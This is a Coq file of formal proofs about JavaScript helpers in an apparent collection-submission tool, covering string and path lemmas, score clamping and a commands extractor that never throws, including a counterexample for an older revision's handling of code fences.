(** The rounding of each operation shows: with the scores 1, 1 and 96 the
    exact sum of the products is 29.5, the sum of the doubles is just
    under it, and the overall score is 29. *)
Example weighted_score_in_doubles :
  calculateWeightedScore constructor
    {| s_validation := 1; s_security := 1; s_aiSafety := 96 |} = 29
  /\ Math_round (1 * (2 # 10) + 1 * (5 # 10) + 96 * (3 # 10)) = 30
  /\ Qeq_bool (plus (double (1 # 10)) (double (2 # 10))) (double (3 # 10)) = false.
Proof. vm_compute. repeat split. Qed.

Lemma weighted_score_monotone_witness :
  (75 <= 100)%Q /\
  calculateWeightedScore constructor
    {| s_validation := 75; s_security := 80; s_aiSafety := 90 |}
  <= calculateWeightedScore constructor
       {| s_validation := 100; s_security := 80; s_aiSafety := 90 |}.
Proof.
  assert (H : (75 <= 100)%Q) by discriminate.
  split; [exact H|].
  exact (proj1 (weighted_score_monotone 75 80 90 100) H).
Defined.

End DecisionEngine.

(** ** Facts on the string helpers *)

Section StringFacts.
Import Js.

Lemma append_nil_r (s : string) : s ++ "" = s.
Proof. induction s as [|c s IH]; simpl; [reflexivity|now rewrite IH]. Qed.

Lemma append_assoc (a b c : string) : (a ++ b) ++ c = a ++ (b ++ c).
Proof. induction a as [|x a IH]; simpl; [reflexivity|now rewrite IH]. Qed.

Lemma length_append (a b : string) :
  String.length (a ++ b) = (String.length a + String.length b)%nat.
Proof. induction a as [|x a IH]; simpl; [reflexivity|now rewrite IH]. Qed.

Lemma list_ascii_of_append (a b : string) :
  list_ascii_of_string (a ++ b)
  = (list_ascii_of_string a ++ list_ascii_of_string b)%list.
Proof. induction a as [|x a IH]; simpl; [reflexivity|now rewrite IH]. Qed.

Lemma string_of_list_app (l1 l2 : list ascii) :
  string_of_list_ascii (l1 ++ l2)
  = string_of_list_ascii l1 ++ string_of_list_ascii l2.
Proof. induction l1 as [|x l1 IH]; simpl; [reflexivity|now rewrite IH]. Qed.

Lemma reverse_append (a b : string) : reverse (a ++ b) = reverse b ++ reverse a.
Proof.
  unfold reverse. now rewrite list_ascii_of_append, rev_app_distr, string_of_list_app.
Qed.

Lemma reverse_involutive (s : string) : reverse (reverse s) = s.
Proof.
  unfold reverse.
  now rewrite list_ascii_of_string_of_list_ascii, rev_involutive,
    string_of_list_ascii_of_string.
Qed.

Lemma substring_all (s : string) : String.substring 0 (String.length s) s = s.
Proof. induction s as [|c s IH]; simpl; [reflexivity|now rewrite IH]. Qed.

Lemma takeChars_append (a b : string) : takeChars (String.length a) (a ++ b) = a.
Proof.
  unfold takeChars. induction a as [|x a IH]; simpl.
  - destruct b; reflexivity.
  - now rewrite IH.
Qed.

Lemma dropChars_append (a b : string) : dropChars (String.length a) (a ++ b) = b.
Proof.
  unfold dropChars. rewrite length_append.
  replace (String.length a + String.length b - String.length a)%nat
    with (String.length b) by lia.
  induction a as [|x a IH]; simpl; [apply substring_all|exact IH].
Qed.

Lemma prefix_append (a b : string) : String.prefix a (a ++ b) = true.
Proof.
  induction a as [|x a IH]; simpl; [destruct b; reflexivity|].
  destruct (ascii_dec x x); [exact IH|congruence].
Qed.

Lemma prefix_append_cancel (a p s : string) :
  String.prefix (a ++ p) (a ++ s) = String.prefix p s.
Proof.
  induction a as [|x a IH]; simpl; [reflexivity|].
  destruct (ascii_dec x x); [exact IH|congruence].
Qed.

Lemma prefix_longer (p q s : string) :
  String.prefix p s = false -> String.prefix (p ++ q) s = false.
Proof.
  revert s. induction p as [|x p IH]; intros s H.
  - destruct s; discriminate H.
  - destruct s as [|y s]; [reflexivity|]. simpl in *.
    destruct (ascii_dec x y); [now apply IH|reflexivity].
Qed.

Lemma endsWith_append (a b : string) : endsWith (a ++ b) b = true.
Proof. unfold endsWith. rewrite reverse_append. apply prefix_append. Qed.

(** A text that ends with a character that is no white space is not
    shortened by [trimEnd]. *)
Lemma trimEnd_append_visible (a : string) (c : ascii) :
  isSpace c = false ->
  trimEnd (a ++ String c EmptyString) = a ++ String c EmptyString.
Proof.
  intros Hc. unfold trimEnd. rewrite reverse_append.
  change (reverse (String c EmptyString)) with (String c EmptyString).
  simpl. rewrite Hc.
  change (String c (reverse a)) with (reverse (String c EmptyString) ++ reverse a).
  now rewrite <- reverse_append, reverse_involutive.
Qed.

Lemma trim_fenced (opening inner : string) (c : ascii) :
  isSpace c = false ->
  trim (String c opening ++ inner ++ "```") = String c opening ++ inner ++ "```".
Proof.
  intros Hc. unfold trim.
  assert (Hs : trimStart (String c opening ++ inner ++ "```")
               = String c opening ++ inner ++ "```")
    by (simpl; now rewrite Hc).
  rewrite Hs.
  replace (String c opening ++ inner ++ "```")
    with ((String c opening ++ inner ++ "``") ++ "`")
    by (now rewrite !append_assoc).
  now apply trimEnd_append_visible.
Qed.

Lemma takeChars_fence (inner : string) :
  takeChars (String.length (inner ++ "```") - 3) (inner ++ "```") = inner.
Proof.
  rewrite length_append. simpl String.length.
  replace (String.length inner + 3 - 3)%nat with (String.length inner) by lia.
  apply takeChars_append.
Qed.

End StringFacts.

(** ** Facts on paths

    What [path.join] does to a directory in normal form and a plain name:
    it adds the name as one more segment. *)

Section PathFacts.
Import Js Organizer Checks.


Lemma split_nonempty (sep : ascii) (s : string) : split sep s <> [].
Proof.
  destruct s as [|c r]; simpl; [discriminate|].
  destruct (Ascii.eqb c sep); [discriminate|].
  destruct (split sep r); discriminate.
Qed.

Lemma split_append_separator (sep : ascii) (a b : string) :
  split sep (a ++ String sep b) = (split sep a ++ split sep b)%list.
Proof.
  induction a as [|c a IH]; simpl.
  - now rewrite Ascii.eqb_refl.
  - destruct (Ascii.eqb c sep); [now rewrite IH|].
    rewrite IH. pose proof (split_nonempty sep a) as Hn.
    destruct (split sep a); [congruence|reflexivity].
Qed.

Lemma split_without_separator (sep : ascii) (s : string) :
  allChars (fun c => negb (Ascii.eqb c sep)) s = true -> split sep s = [s].
Proof.
  induction s as [|c r IH]; simpl; [reflexivity|].
  intros H. apply andb_true_iff in H. destruct H as [Hc Hr].
  apply negb_true_iff in Hc. rewrite Hc, (IH Hr). reflexivity.
Qed.

(** The first segment holds no separator. *)
Lemma split_first_segment (sep : ascii) (s : string) :
  match split sep s with
  | first :: _ => allChars (fun c => negb (Ascii.eqb c sep)) first = true
  | [] => True
  end.
Proof.
  induction s as [|c r IH]; cbn [split]; [reflexivity|].
  destruct (Ascii.eqb c sep) eqn:E; [reflexivity|].
  destruct (split sep r) as [|h t]; cbn [allChars]; now rewrite E.
Qed.

Lemma join_split (sep : ascii) (s : string) :
  join (String sep "") (split sep s) = s.
Proof.
  unfold join. induction s as [|c r IH]; simpl; [reflexivity|].
  pose proof (split_nonempty sep r) as Hn.
  destruct (Ascii.eqb c sep) eqn:E.
  - apply Ascii.eqb_eq in E. subst c.
    destruct (split sep r) as [|h t]; [congruence|].
    change (String.concat (String sep "") ("" :: h :: t))
      with (String sep (String.concat (String sep "") (h :: t))).
    now rewrite IH.
  - destruct (split sep r) as [|h t]; [congruence|].
    destruct t as [|h' t]; simpl in *; now rewrite <- IH.
Qed.

Lemma join_last (sep : string) (l : list string) (x : string) :
  l <> [] -> join sep (l ++ [x]) = join sep l ++ sep ++ x.
Proof.
  unfold join. induction l as [|h t IH]; [congruence|]. intros _.
  destruct t as [|h' t].
  - reflexivity.
  - change (String.concat sep ((h :: h' :: t) ++ [x]))
      with (h ++ sep ++ String.concat sep ((h' :: t) ++ [x])).
    rewrite IH by discriminate.
    change (String.concat sep (h :: h' :: t))
      with (h ++ sep ++ String.concat sep (h' :: t)).
    now rewrite !append_assoc.
Qed.

Lemma normalizeSegment_plain (allow : bool) (kept : list string) (segment : string) :
  plainSegment segment = true -> normalizeSegment allow kept segment = segment :: kept.
Proof.
  unfold plainSegment, normalizeSegment. intros H.
  apply andb_true_iff in H. destruct H as [H H2].
  apply andb_true_iff in H. destruct H as [H0 H1].
  apply negb_true_iff in H0, H1, H2. now rewrite H0, H1, H2.
Qed.

Lemma normalizeSegments_plain (allow : bool) (segments : list string) :
  forallb plainSegment segments = true ->
  forall kept,
    fold_left (normalizeSegment allow) segments kept = (rev segments ++ kept)%list.
Proof.
  induction segments as [|s l IH]; intros H kept; [reflexivity|].
  cbn [forallb] in H. apply andb_true_iff in H. destruct H as [Hs Hl].
  cbn [fold_left rev]. rewrite (normalizeSegment_plain _ _ _ Hs), (IH Hl).
  now rewrite <- app_assoc.
Qed.

Lemma string_last (s : string) :
  s <> "" -> exists r c, s = r ++ String c "".
Proof.
  induction s as [|c s IH]; [congruence|]. intros _.
  destruct s as [|c' s].
  - exists "", c. reflexivity.
  - destruct IH as (r & x & Hr); [discriminate|].
    exists (String c r), x. simpl. now rewrite <- Hr.
Qed.

Lemma allChars_append (p : ascii -> bool) (a b : string) :
  allChars p (a ++ b) = allChars p a && allChars p b.
Proof.
  induction a as [|c a IH]; simpl; [reflexivity|].
  now rewrite IH, andb_assoc.
Qed.

Lemma prefix_one (a c : ascii) (s : string) :
  String.prefix (String a "") (String c s) = Ascii.eqb a c.
Proof.
  cbn [String.prefix]. destruct (ascii_dec a c) as [->|N].
  - rewrite Ascii.eqb_refl. destruct s; reflexivity.
  - symmetry. now apply Ascii.eqb_neq.
Qed.

Lemma endsWith_name (a name : string) :
  name <> "" -> allChars notSeparator name = true ->
  endsWith (a ++ name) "/" = false.
Proof.
  intros Hn Hc. destruct (string_last name Hn) as (r & c & ->).
  rewrite allChars_append in Hc. apply andb_true_iff in Hc. destruct Hc as [_ Hc].
  cbn [allChars] in Hc. rewrite andb_true_r in Hc. unfold notSeparator in Hc.
  apply negb_true_iff in Hc.
  unfold endsWith. rewrite <- append_assoc, reverse_append.
  change (reverse (String c "")) with (String c "").
  change (reverse "/") with "/". cbn [append].
  rewrite prefix_one. rewrite Ascii.eqb_sym. exact Hc.
Qed.

Lemma startsWith_separator (a b : string) :
  a <> "" -> startsWith (a ++ b) "/" = startsWith a "/".
Proof.
  destruct a as [|c a]; [congruence|]. intros _. unfold startsWith.
  cbn [append]. now rewrite !prefix_one.
Qed.

Lemma plainSegment_nonempty (s : string) : plainSegment s = true -> s <> "".
Proof. destruct s; [discriminate|discriminate]. Qed.

Lemma isEmpty_append (a b : string) : a <> "" -> isEmpty (a ++ b) = false.
Proof. destruct a; [congruence|reflexivity]. Qed.

(** Joining a plain name to a directory in normal form adds one segment. *)
Lemma pathJoin_plain (dir name : string) :
  normalDirectory dir = true -> plainName name = true ->
  pathJoin dir name = dir ++ "/" ++ name.
Proof.
  unfold normalDirectory, plainName. intros Hd Hn.
  apply andb_true_iff in Hn. destruct Hn as [Hplain Hsep].
  pose proof (plainSegment_nonempty _ Hplain) as Hne.
  pose proof (join_split "/" dir) as Hj.
  destruct (split "/" dir) as [|first rest] eqn:Es; [discriminate|].
  apply andb_true_iff in Hd. destruct Hd as [Hfirst Hrest].
  assert (Hdne : dir <> "").
  { intros ->. simpl in Es. injection Es as <- <-. discriminate Hfirst. }
  unfold pathJoin.
  destruct dir as [|d0 dir']; [congruence|]. destruct name as [|n0 name']; [congruence|].
  cbn [isEmpty]. set (dir := String d0 dir') in *. set (name := String n0 name') in *.
  assert (Hj' : isEmpty (dir ++ "/" ++ name) = false) by reflexivity.
  rewrite Hj'. unfold normalize. rewrite Hj'. cbv zeta.
  assert (Hst : startsWith (dir ++ "/" ++ name) "/" = startsWith dir "/")
    by (apply startsWith_separator; exact Hdne).
  assert (He : endsWith (dir ++ "/" ++ name) "/" = false).
  { replace (dir ++ "/" ++ name) with ((dir ++ "/") ++ name)
      by (now rewrite append_assoc).
    now apply endsWith_name. }
  assert (Hsp : split "/" (dir ++ "/" ++ name) = ((first :: rest) ++ [name])%list).
  { change (dir ++ "/" ++ name) with (dir ++ String "/" name).
    rewrite split_append_separator, Es.
    now rewrite (split_without_separator "/" name Hsep : split "/" name = [name]). }
  rewrite Hst, He, Hsp.
  apply orb_true_iff in Hfirst. destruct Hfirst as [Hp|Ha].
  - (* a relative directory *)
    assert (Hall : forallb plainSegment ((first :: rest) ++ [name]) = true).
    { rewrite forallb_app. cbn [forallb]. now rewrite Hp, Hrest, Hplain. }
    rewrite (normalizeSegments_plain _ _ Hall), app_nil_r, rev_involutive.
    rewrite join_last by discriminate. rewrite Hj.
    assert (Hs : startsWith dir "/" = false).
    { rewrite <- Hj. unfold startsWith, join.
      destruct first as [|f0 first']; [discriminate Hp|].
      assert (Hf0 : Ascii.eqb "/" f0 = false).
      { destruct (Ascii.eqb "/" f0) eqn:E; [|reflexivity].
        apply Ascii.eqb_eq in E. subst f0.
        pose proof (split_first_segment "/" (String d0 dir')) as Hh.
        fold dir in Hh. rewrite Es in Hh. discriminate Hh. }
      destruct rest; cbn [String.concat append]; now rewrite prefix_one. }
    rewrite Hs. rewrite isEmpty_append by exact Hdne.
    cbn [append]. now rewrite append_nil_r.
  - (* an absolute directory *)
    apply andb_true_iff in Ha. destruct Ha as [Hf Hr].
    destruct first; [|discriminate Hf].
    destruct rest as [|r0 rest]; [discriminate Hr|].
    assert (Hd' : dir = "/" ++ join "/" (r0 :: rest)) by (now rewrite <- Hj).
    assert (Hs : startsWith dir "/" = true).
    { rewrite Hd'. unfold startsWith. cbn [append]. now rewrite prefix_one. }
    rewrite Hs. cbn [negb].
    change (fold_left (normalizeSegment false) (("" :: r0 :: rest) ++ [name]) [])
      with (fold_left (normalizeSegment false) ((r0 :: rest) ++ [name]) []).
    assert (Hall : forallb plainSegment ((r0 :: rest) ++ [name]) = true).
    { rewrite forallb_app. cbn [forallb] in *. now rewrite Hrest, Hplain. }
    rewrite (normalizeSegments_plain _ _ Hall), app_nil_r, rev_involutive.
    rewrite join_last by discriminate.
    assert (Hr0 : r0 <> "").
    { cbn [forallb] in Hrest. apply andb_true_iff in Hrest.
      apply plainSegment_nonempty. tauto. }
    assert (Hne' : isEmpty (join "/" (r0 :: rest) ++ "/" ++ name) = false).
    { unfold join. destruct rest; cbn [String.concat]; apply isEmpty_append;
        [exact Hr0|]. destruct r0; [congruence|discriminate]. }
    rewrite Hne', Hd'. now rewrite append_nil_r, !append_assoc.
Qed.

Lemma normalDirectory_extend (dir name : string) :
  normalDirectory dir = true -> plainName name = true ->
  normalDirectory (dir ++ "/" ++ name) = true.
Proof.
  unfold normalDirectory, plainName. intros Hd Hn.
  apply andb_true_iff in Hn. destruct Hn as [Hplain Hsep].
  change (dir ++ "/" ++ name) with (dir ++ String "/" name).
  rewrite split_append_separator.
  rewrite (split_without_separator "/" name Hsep : split "/" name = [name]).
  destruct (split "/" dir) as [|first rest]; [discriminate|].
  apply andb_true_iff in Hd. destruct Hd as [Hfirst Hrest].
  cbn [app]. rewrite forallb_app. cbn [forallb]. rewrite Hrest, Hplain.
  apply orb_true_iff in Hfirst. destruct Hfirst as [->|Ha]; [reflexivity|].
  apply andb_true_iff in Ha. destruct Ha as [-> _].
  destruct rest; rewrite orb_true_r; reflexivity.
Qed.

Lemma safeChar_notSeparator (c : ascii) :
  isSafeFileChar c = true -> notSeparator c = true.
Proof.
  unfold notSeparator. destruct (Ascii.eqb c "/") eqn:E; [|reflexivity].
  apply Ascii.eqb_eq in E. subst c. discriminate.
Qed.

Lemma allChars_weaken (p q : ascii -> bool) (s : string) :
  (forall c, p c = true -> q c = true) -> allChars p s = true -> allChars q s = true.
Proof.
  intros H. induction s as [|c s IH]; [reflexivity|]. cbn [allChars].
  rewrite !andb_true_iff. intros [Hc Hs]. auto.
Qed.

(** A name of safe characters with one of the three extensions is plain. *)
Lemma plainName_extension (stem extension : string) :
  allChars isSafeFileChar stem = true ->
  In extension [".json"; "-levelup.json"; ".js"] ->
  plainName (stem ++ extension) = true.
Proof.
  intros Hs He. unfold plainName, plainSegment.
  assert (Hlen : (3 <= String.length (stem ++ extension))%nat).
  { rewrite length_append.
    destruct He as [<-|[<-|[<-|[]]]]; cbn [String.length]; lia. }
  assert (Hsep : allChars notSeparator (stem ++ extension) = true).
  { rewrite allChars_append.
    rewrite (allChars_weaken _ _ _ safeChar_notSeparator Hs).
    destruct He as [<-|[<-|[<-|[]]]]; reflexivity. }
  rewrite Hsep, andb_true_r.
  destruct (stem ++ extension) as [|c0 [|c1 [|c2 r]]]; cbn [String.length] in Hlen;
    try lia.
  cbn [isEmpty negb andb].
  assert (H1 : String.eqb (String c0 (String c1 (String c2 r))) "." = false).
  { cbn [String.eqb]. destruct (Ascii.eqb c0 "."); reflexivity. }
  assert (H2 : String.eqb (String c0 (String c1 (String c2 r))) ".." = false).
  { cbn [String.eqb]. destruct (Ascii.eqb c0 "."), (Ascii.eqb c1 "."); reflexivity. }
  now rewrite H1, H2.
Qed.

End PathFacts.


(** ** The evidence extractor *)

Section Extractor.
Import Js Json Parser ExtractorSpec.

Variable JSON_parse : string -> option json.

(** The score is within bounds whatever the counts. *)
Lemma calculateValidationScore_bounds (e w c : Z) :
  0 <= calculateValidationScore e w c <= 100.
Proof. unfold calculateValidationScore. cbv zeta. lia. Qed.

Lemma calculateValidationScore_formula (e w c : Z) :
  calculateValidationScore e w c
  = Z.max 0 (Z.min 100 (100 - 25 * e - 10 * w + (if 3 <=? c then 5 else 0))).
Proof.
  unfold calculateValidationScore. cbv zeta.
  destruct (3 <=? c); lia.
Qed.

(** [validateCollection] scores the lengths of the very arrays it returns,
    and the number of commands the extractor found. *)
Lemma validateCollection_score issueData body v :
  validateCollection JSON_parse issueData body = Ok v ->
  exists cmds,
    extractCommands JSON_parse body = Ok cmds /\
    valid v = (List.length (errors v) =? 0)%nat /\
    score v = calculateValidationScore (Z.of_nat (List.length (errors v)))
                (Z.of_nat (List.length (warnings v)))
                (Z.of_nat (List.length cmds)).
Proof.
  unfold validateCollection, bind.
  destruct (extractMetadata issueData body) as [m|]; [|discriminate].
  destruct (extractCommands JSON_parse body) as [cmds|]; [|discriminate].
  match goal with
  | |- match ?X with Ok _ => _ | Throw _ => _ end = _ -> _ =>
      destruct X as [st|]; [|discriminate]
  end.
  intros [= <-]. exists cmds. cbn [valid score errors warnings]. auto.
Qed.

(** A payload inside a [```json] fence is handed to the JSON parser
    without the fence. *)
Lemma extractJsonFromCodeBlock_json_fence (inner : string) :
  extractJsonFromCodeBlock ("```json" ++ inner ++ "```") = trim inner.
Proof.
  unfold extractJsonFromCodeBlock.
  rewrite (trim_fenced "``json" inner "`"%char eq_refl).
  unfold startsWith.
  rewrite (prefix_append "```json" (inner ++ "```")).
  rewrite (dropChars_append "```json" (inner ++ "```") : dropChars 7 _ = _).
  rewrite endsWith_append, takeChars_fence. reflexivity.
Qed.

(** The same for a bare [```] fence. *)
Lemma extractJsonFromCodeBlock_bare_fence (inner : string) :
  startsWith (inner ++ "```") "json" = false ->
  extractJsonFromCodeBlock ("```" ++ inner ++ "```") = trim inner.
Proof.
  intros Hj. unfold extractJsonFromCodeBlock.
  rewrite (trim_fenced "``" inner "`"%char eq_refl).
  assert (H1 : startsWith ("```" ++ inner ++ "```") "```json" = false).
  { unfold startsWith in *.
    change "```json" with ("```" ++ "json").
    now rewrite prefix_append_cancel. }
  rewrite H1. unfold startsWith.
  rewrite (prefix_append "```" (inner ++ "```")).
  rewrite (dropChars_append "```" (inner ++ "```") : dropChars 3 _ = _).
  rewrite endsWith_append, takeChars_fence. reflexivity.
Qed.

(** The fence in general: after the first [trim], an opening marker with
    or without the language and a closing marker, each of them present or
    not, are taken off and what is between them is trimmed. *)
Lemma extractJsonFromCodeBlock_fences (text opening inner closing : string) :
  trim text = opening ++ inner ++ closing ->
  fenceOpening opening (inner ++ closing) ->
  fenceClosing closing inner ->
  extractJsonFromCodeBlock text = trim inner.
Proof.
  intros Ht Ho Hc. unfold extractJsonFromCodeBlock. rewrite Ht.
  assert (Hrest :
    (if startsWith (opening ++ inner ++ closing) "```json"
     then dropChars 7 (opening ++ inner ++ closing)
     else if startsWith (opening ++ inner ++ closing) "```"
          then dropChars 3 (opening ++ inner ++ closing)
          else opening ++ inner ++ closing) = inner ++ closing).
  { destruct Ho as [->|[[-> Hj]|[-> Hn]]].
    - unfold startsWith. rewrite (prefix_append "```json" (inner ++ closing)).
      exact (dropChars_append "```json" (inner ++ closing)).
    - assert (H1 : startsWith ("```" ++ inner ++ closing) "```json" = false).
      { unfold startsWith in *. change "```json" with ("```" ++ "json").
        now rewrite prefix_append_cancel. }
      rewrite H1. unfold startsWith.
      rewrite (prefix_append "```" (inner ++ closing)).
      exact (dropChars_append "```" (inner ++ closing)).
    - change ("" ++ inner ++ closing) with (inner ++ closing).
      assert (H1 : startsWith (inner ++ closing) "```json" = false).
      { unfold startsWith in *. change "```json" with ("```" ++ "json").
        now apply prefix_longer. }
      now rewrite H1, Hn. }
  cbv zeta. rewrite Hrest.
  destruct Hc as [->|[-> He]].
  - now rewrite endsWith_append, takeChars_fence.
  - rewrite append_nil_r. now rewrite He.
Qed.

(** C4.  The validation score is 100, minus 25 per validation error, minus
    10 per validation warning, plus 5 when there are at least three
    commands, clamped to [0, 100]: for all counts handed to
    [calculateValidationScore], and for every parsed submission with the
    counts of its own errors, warnings and commands. *)
Theorem validation_score_clamped :
  (forall e w n : nat,
      calculateValidationScore (Z.of_nat e) (Z.of_nat w) (Z.of_nat n)
      = Z.max 0 (Z.min 100
          (100 - 25 * Z.of_nat e - 10 * Z.of_nat w
           + (if 3 <=? Z.of_nat n then 5 else 0)))
      /\ 0 <= calculateValidationScore (Z.of_nat e) (Z.of_nat w) (Z.of_nat n) <= 100)
  /\ (forall issueData c,
        parseIssue JSON_parse issueData = Ok c ->
        score (validation c)
        = Z.max 0 (Z.min 100
            (100 - 25 * Z.of_nat (List.length (errors (validation c)))
                 - 10 * Z.of_nat (List.length (warnings (validation c)))
                 + (if 3 <=? Z.of_nat (List.length (commands c)) then 5 else 0)))
        /\ valid (validation c) = (List.length (errors (validation c)) =? 0)%nat
        /\ 0 <= score (validation c) <= 100).
Proof.
  split.
  - intros e w n. split;
      [apply calculateValidationScore_formula|apply calculateValidationScore_bounds].
  - intros issueData c. unfold parseIssue, bind.
    destruct (extractMetadata issueData _) as [m|]; [|discriminate].
    destruct (extractCommands JSON_parse _) as [cmds|] eqn:Hc; [|discriminate].
    destruct (validateCollection JSON_parse issueData _) as [v|] eqn:Hv; [|discriminate].
    intros [= <-]. cbn [validation commands].
    destruct (validateCollection_score _ _ _ Hv) as (cmds' & Hc' & Hvalid & Hs).
    rewrite Hc in Hc'. injection Hc' as <-.
    rewrite Hs. repeat split;
      [apply calculateValidationScore_formula|exact Hvalid
      |apply calculateValidationScore_bounds|apply calculateValidationScore_bounds].
Qed.

(** *** The commands extractor *)

Lemma readCommands_shapes (text : string) :
  match JSON_parse text with
  | None => exists e, readCommands JSON_parse text = Throw e
  | Some (JArr l) => readCommands JSON_parse text = Ok l
  | Some (JObj kv) =>
      match lookup "commands" kv with
      | Some (JArr l) => readCommands JSON_parse text = Ok l
      | _ => exists e, readCommands JSON_parse text = Throw e
      end
  | Some _ => exists e, readCommands JSON_parse text = Throw e
  end.
Proof.
  unfold readCommands.
  destruct (JSON_parse text) as [[| b | n | str | l | kv]|]; cbn; eauto.
  destruct (lookup "commands" kv) as [[| b | n | str | l | kv']|]; cbn; eauto.
  - destruct b; cbn; eauto.
  - destruct (negb (n =? 0)); cbn; eauto.
  - destruct (negb (isEmpty str)); cbn; eauto.
Qed.

(** Whatever the [try] block does, the [catch] leaves the accepted
    commands. *)
Lemma readCommands_accepted (text : string) :
  try_catch (readCommands JSON_parse text) (fun _ => Ok [])
  = Ok (acceptedCommands (JSON_parse text)).
Proof.
  pose proof (readCommands_shapes text) as H. unfold acceptedCommands.
  destruct (JSON_parse text) as [[| b | n | str | l | kv]|];
    [| | | | |destruct (lookup "commands" kv) as [[| b | n | str | l' | kv']|]|];
    match type of H with
    | ex _ => destruct H as [e ->]; reflexivity
    | _ => now rewrite H
    end.
Qed.

Lemma extractCommands_unfold (body : string) :
  extractCommands JSON_parse body
  = if isEmpty (commandsField body) then Ok []
    else try_catch
           (readCommands JSON_parse (extractJsonFromCodeBlock (commandsField body)))
           (fun _ => Ok []).
Proof. reflexivity. Qed.

Lemma isEmpty_true (s : string) : isEmpty s = true <-> s = "".
Proof. destruct s; simpl; split; intros H; congruence. Qed.

Lemma isEmpty_false (s : string) : isEmpty s = false <-> s <> "".
Proof. destruct s; simpl; split; intros H; congruence. Qed.

(** With no command the validation step records the missing-commands
    error, whatever else it finds. *)
Lemma validateCollection_without_commands issueData body m :
  extractCommands JSON_parse body = Ok [] ->
  extractMetadata issueData body = Ok m ->
  exists v,
    validateCollection JSON_parse issueData body = Ok v /\
    valid v = false /\
    In missingCommandsError (errors v).
Proof.
  intros Hc Hm. unfold validateCollection. rewrite Hm, Hc. cbn [bind].
  cbn [List.length Nat.eqb Nat.ltb Nat.leb fst snd].
  eexists. split; [reflexivity|]. cbn [valid errors fst snd]. unfold push. split.
  - rewrite length_app. cbn [List.length]. rewrite Nat.add_1_r. reflexivity.
  - apply in_or_app. right. now left.
Qed.

(** C6, as the code has it.  In both revisions the commands extractor
    never throws: it returns the commands of an object with a [commands]
    array or of a bare array, and the empty list when no commands field is
    found, when the JSON parser rejects the text and when the parsed value
    has another shape; on an empty list the required-field checks of the
    validation step record the missing-commands error.  The revision of
    organize-collection.js parses the field without its code fence: an
    opening marker, with or without the language, and a closing marker,
    each present or not, are taken off.  The revision of
    parse-collection-issue.js parses the field as it stands. *)
Theorem extractCommands_never_throws
    (extractField_regex : string -> string -> string) (body : string) :
  let field := commandsField body in
  let field_regex := extractField_regex body "commands-json" in
  extractCommands JSON_parse body
  = Ok (if isEmpty field then []
        else acceptedCommands (JSON_parse (extractJsonFromCodeBlock field)))
  /\ extractCommands_regex JSON_parse extractField_regex body
     = Ok (if isEmpty field_regex then []
           else acceptedCommands (JSON_parse field_regex))
  /\ (forall text opening inner closing,
        trim text = opening ++ inner ++ closing ->
        fenceOpening opening (inner ++ closing) ->
        fenceClosing closing inner ->
        extractJsonFromCodeBlock text = trim inner)
  /\ (forall issueData m,
        extractCommands JSON_parse body = Ok [] ->
        extractMetadata issueData body = Ok m ->
        exists v, validateCollection JSON_parse issueData body = Ok v /\
                  valid v = false /\ In missingCommandsError (errors v))
  /\ (forall metadataName metadataDescription contactInfo,
        In missingCommandsError
          (requiredFieldErrors_regex metadataName metadataDescription contactInfo [])).
Proof.
  cbv zeta. rewrite extractCommands_unfold. unfold extractCommands_regex.
  split; [|split; [|split; [|split]]].
  - destruct (isEmpty (commandsField body)); [reflexivity|].
    now rewrite readCommands_accepted.
  - destruct (isEmpty (extractField_regex body "commands-json")); [reflexivity|].
    now rewrite readCommands_accepted.
  - exact extractJsonFromCodeBlock_fences.
  - intros issueData m Hc Hm.
    exact (validateCollection_without_commands issueData body m Hc Hm).
  - intros n d c. unfold requiredFieldErrors_regex, push, missingCommandsError.
    cbn [List.length Nat.eqb]. apply in_or_app. right. now left.
Qed.

End Extractor.

Section ExtractorExamples.
Import Js Json Parser ExtractorSpec.

Lemma validation_score_clamped_witness :
  exists c,
    parseIssue sampleParse (sampleIssue "[3 commands]") = Ok c /\
    score (validation c) = 100 /\ 0 <= score (validation c) <= 100.
Proof.
  destruct (parseIssue sampleParse (sampleIssue "[3 commands]")) as [c|e] eqn:E;
    [|vm_compute in E; discriminate E].
  exists c. split; [reflexivity|].
  destruct (proj2 (validation_score_clamped sampleParse) _ c E) as (Hs & _ & Hb).
  split; [|exact Hb].
  vm_compute in E. injection E as <-. reflexivity.
Defined.

Lemma extractCommands_never_throws_witness :
  extractCommands sampleParse
    (sampleBody ("```json" ++ nl ++ "{1 command}" ++ nl ++ "```"))
  = Ok [sampleCommand "Refresh" "Xrm.Page.data.refresh();"]
  /\ extractJsonFromCodeBlock ("```" ++ nl ++ "{1 command}" ++ nl) = "{1 command}".
Proof.
  destruct (extractCommands_never_throws sampleParse sampleExtractField
              (sampleBody ("```json" ++ nl ++ "{1 command}" ++ nl ++ "```")))
    as (H1 & _ & Hfence & _).
  split.
  - rewrite H1. vm_compute. reflexivity.
  - refine (eq_trans (Hfence _ "```" (nl ++ "{1 command}") "" _ _ _) _).
    + vm_compute. reflexivity.
    + right. left. split; reflexivity.
    + right. split; reflexivity.
    + vm_compute. reflexivity.
Defined.

(** C6 as it is worded fails for the revision of parse-collection-issue.js:
    it does not strip the code fence.  On a commands field that holds a
    valid payload inside a fence, the parser is handed the fence, rejects
    it, and the extractor answers the empty list; the later revision
    answers the three commands of the same payload. *)
Lemma extractCommands_fence_counterexample :
  sampleExtractField regexBody "commands-json" = fencedPayload /\
  extractJsonFromCodeBlock fencedPayload = "[3 commands]" /\
  sampleParse fencedPayload = None /\
  List.length (acceptedCommands (sampleParse "[3 commands]")) = 3%nat /\
  extractCommands_regex sampleParse sampleExtractField regexBody = Ok [] /\
  extractCommands sampleParse (sampleBody fencedPayload)
  = Ok (acceptedCommands (sampleParse "[3 commands]")).
Proof. vm_compute. repeat split. Qed.

(** A missing payload, an unparsable payload and a [null] payload all give
    the empty list, and validation then reports the missing commands. *)
Example extract_missing_payload :
  extractCommands sampleParse "### Collection Name" = Ok [].
Proof. reflexivity. Qed.

Example extract_unparsable_payload :
  extractCommands sampleParse (sampleBody "{not json") = Ok [].
Proof. vm_compute. reflexivity. Qed.

Example extract_null_payload :
  extractCommands sampleParse (sampleBody "null") = Ok [].
Proof. vm_compute. reflexivity. Qed.

Example validate_unparsable_payload :
  option_map errors
    (match validateCollection sampleParse (sampleIssue "{not json")
             (sampleBody "{not json") with
     | Ok v => Some v
     | Throw _ => None
     end)
  = Some [missingCommandsError].
Proof. vm_compute. reflexivity. Qed.

End ExtractorExamples.

(** ** The pattern-based risk scanner *)

Section RiskScanner.
Import Js Scanner ScannerSpec.

Variable regexMatches : Pattern -> string -> list string.
Variable inference : string -> Command -> string -> result CommandReport.

